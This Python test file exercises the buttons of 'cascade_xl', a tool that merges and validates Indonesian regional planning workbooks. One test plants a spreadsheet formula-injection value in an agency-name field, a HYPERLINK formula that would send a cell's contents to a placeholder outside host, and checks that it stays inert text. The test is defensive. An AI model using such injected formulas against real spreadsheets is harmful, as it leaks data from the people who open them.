"""The regency workbook under the same buttons: made by one, checked and marked by the others."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import xlwings as xw

from cascade_xl.checking import check_any
from cascade_xl.contract import Sheet
from cascade_xl.contract.merged import BERKAS, OPD
from cascade_xl.hosts import buttons
from cascade_xl.model import Status
from cascade_xl.read.canonical import document
from cascade_xl.resources import example_names, profile
from cascade_xl.write import build
from tests.examples import small_file
from tests.hosts.books import clean_document_json
from tests.hosts.calc import Calc

HEAD = 5


@pytest.fixture
def region(calc: Calc, tmp_path: Path) -> xw.Book:
    """Three OPD merged by the button."""
    folder = tmp_path / "masuk"
    folder.mkdir()
    for name in example_names()[:3]:
        small_file(name, folder)
    calc.new_book()
    buttons.press("gabungkan_folder", "", str(folder).encode("utf-16-be").hex())
    assert calc.alerts == []
    return xw.books["Gabungan masuk.xlsx"]


def table(book: xw.Book, sheet: str) -> list[dict[str, Any]]:
    """The rows of a sheet by heading."""
    block = book.sheets[sheet].used_range.options(err_to_str=True, ndim=2).value
    head = next(n for n, row in enumerate(block) if {"Kode", "Nomor"} & set(row))
    rows = (dict(zip(block[head], row, strict=True)) for row in block[head + 1 :])
    return [row for row in rows if any(value is not None for value in row.values())]


def heading(book: xw.Book, sheet: str, name: str) -> tuple[int, int]:
    block = book.sheets[sheet].used_range.options(ndim=2).value
    return next((r, row.index(name) + 1) for r, row in enumerate(block, start=1) if name in row)


def flags(book: xw.Book) -> list[tuple[Any, Any]]:
    return [(row["Pesan Validasi"], row["Tanda"]) for row in table(book, Sheet.MATRIKS)]


def test_a_folder_becomes_a_workbook_beside_it(region: xw.Book, tmp_path: Path) -> None:
    assert Path(region.fullname) == tmp_path / "Gabungan masuk.xlsx"
    assert xw.apps.active is not None
    assert "3 berkas" in str(xw.apps.active.status_bar)
    buttons.press("gabungkan_folder", "", str(tmp_path / "masuk").encode("utf-16-be").hex())
    assert (tmp_path / "Gabungan masuk (2).xlsx").exists()


def test_validasi_changes_nothing_that_the_merge_marked(calc: Calc, region: xw.Book) -> None:
    before, listed = flags(region), table(region, Sheet.TEMUAN)
    assert any(tanda for _, tanda in before)
    buttons.press("validasi")
    assert calc.alerts == []
    assert flags(region) == before

    def said(rows: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
        keys = (OPD.header, BERKAS.header, "Lembar", "Nomor", "Kode", "Tahun", "Status", "Keparahan")
        return sorted(tuple(str(row[key]) for key in keys) for row in rows)

    assert said(table(region, Sheet.TEMUAN)) == said(listed)


def test_a_corrected_cell_loses_its_mark(calc: Calc, region: xw.Book) -> None:
    buttons.press("validasi")
    row, column = heading(region, Sheet.MATRIKS, "Satuan")
    sheet = region.sheets[Sheet.MATRIKS]
    sheet.range((row + 12, column)).value = "Orangg"
    buttons.press("validasi")
    assert "|satuan:" in str(flags(region)[11][1])
    sheet.range((row + 12, column)).value = "Dokumen"
    buttons.press("validasi")
    assert "Orangg" not in str(flags(region)[11][0])


def test_findings_lead_to_their_rows(region: xw.Book) -> None:
    buttons.press("validasi")
    head, column = heading(region, Sheet.TEMUAN, "Baris Matriks")
    cell = region.sheets[Sheet.TEMUAN].range((head + 1, column))
    assert str(cell.formula).startswith("=HYPERLINK(\"#'Matriks'!")
    assert str(cell.formula).endswith(f",{cell.value:.0f})")


def test_acceptance_says_whose_it_is(calc: Calc, region: xw.Book, tmp_path: Path) -> None:
    buttons.press("validasi")
    found = next(row for row in table(region, Sheet.TEMUAN) if row["Status"] == "Terbuka")
    head, column = heading(region, Sheet.TEMUAN, "Nomor")
    sheet = region.sheets[Sheet.TEMUAN]
    sheet.activate()
    sheet.range((head + 1, column)).select()
    buttons.press("terima_temuan", "", "Disepakati dengan Bappeda".encode("utf-16-be").hex())
    assert calc.alerts == []
    written: Mapping[str, Any] = table(region, Sheet.PENGECUALIAN)[-1]
    assert (written["OPD"], written["Berkas"]) == (found["OPD"], found["Berkas"])
    assert (written["Aturan"], written["Alasan"]) == (found["Aturan"], "Disepakati dengan Bappeda")
    region.save()
    checks = check_any(tmp_path / "Gabungan masuk.xlsx")
    accepted = {f.rule for c in checks for f in c.report.findings if f.status is Status.ACCEPTED}
    assert found["Aturan"] in accepted


def test_navigation_walks_the_merged_rows(region: xw.Book) -> None:
    buttons.press("temuan_berikutnya")
    assert region.sheets.active.name == Sheet.MATRIKS
    assert xw.apps.active is not None
    assert "Temuan 1 dari" in str(xw.apps.active.status_bar)


@pytest.mark.parametrize(("files", "said"), [((), "Tidak ada buku kerja"), (("rusak.xlsx",), "rusak.xlsx")])
def test_a_folder_that_cannot_be_merged(calc: Calc, tmp_path: Path, files: tuple[str, ...], said: str) -> None:
    folder = tmp_path / "kosong"
    folder.mkdir()
    for name in files:
        (folder / name).write_bytes(b"bukan zip")
    calc.new_book()
    buttons.press("gabungkan_folder", "", str(folder).encode("utf-16-be").hex())
    assert said in calc.alerts[0].prompt
    assert [path.name for path in tmp_path.iterdir() if path.suffix == ".xlsx"] == []


def test_findings_of_other_sheets_stay_and_count(calc: Calc, tmp_path: Path) -> None:
    """A text of an OPD's that looks like a link of ours stays a text, too."""
    attack = '=HYPERLINK("http://contoh.invalid/?"&Matriks!C6,"Dinas")'
    data = clean_document_json()
    data["identitas"]["opd"] = attack
    del data["identitas"]["tempat"]
    folder = tmp_path / "masuk"
    folder.mkdir()
    (folder / "a.xlsx").write_bytes(build(profile(), document(data, profile(), "a.json"), rows=60))
    calc.new_book()
    buttons.press("gabungkan_folder", "", str(folder).encode("utf-16-be").hex())
    book = xw.books["Gabungan masuk.xlsx"]
    listed = [row["Nomor"] for row in table(book, Sheet.TEMUAN)]
    assert all(listed)
    buttons.press("validasi")
    assert [row["Nomor"] for row in table(book, Sheet.TEMUAN)] == listed
    assert [alert.prompt for alert in calc.alerts] == []  # it does not say that nothing was found
    head, at = heading(book, Sheet.TEMUAN, OPD.header)
    cell = book.sheets[Sheet.TEMUAN].range((head + 1, at))
    assert cell.value == attack
    head, at = heading(book, Sheet.TEMUAN, "Sel")
    links = [str(book.sheets[Sheet.TEMUAN].range((head + n, at)).formula) for n in range(1, len(listed) + 1)]
    assert all(formula.startswith("=HYPERLINK(\"masuk/a.xlsx#'Identitas'!") for formula in links if formula)
    assert any(links)
    buttons.press("hapus_tanda")
    assert xw.apps.active is not None
    assert f"{len(listed)} temuan lembar lain" in str(xw.apps.active.status_bar)


def test_the_first_finding_of_a_region_without_any(calc: Calc, tmp_path: Path) -> None:
    folder = tmp_path / "masuk"
    folder.mkdir()
    (folder / "a.xlsx").write_bytes(build(profile(), document(clean_document_json(), profile(), "a.json"), rows=60))
    calc.new_book()
    buttons.press("gabungkan_folder", "", str(folder).encode("utf-16-be").hex())
    book = xw.books["Gabungan masuk.xlsx"]
    assert table(book, Sheet.TEMUAN) == []
    row, column = heading(book, Sheet.MATRIKS, "Satuan")
    book.sheets[Sheet.MATRIKS].range((row + 8, column)).value = "Orangg"
    buttons.press("validasi")
    assert calc.alerts == []
    assert {found["Tertulis"] for found in table(book, Sheet.TEMUAN)} >= {"Orangg"}
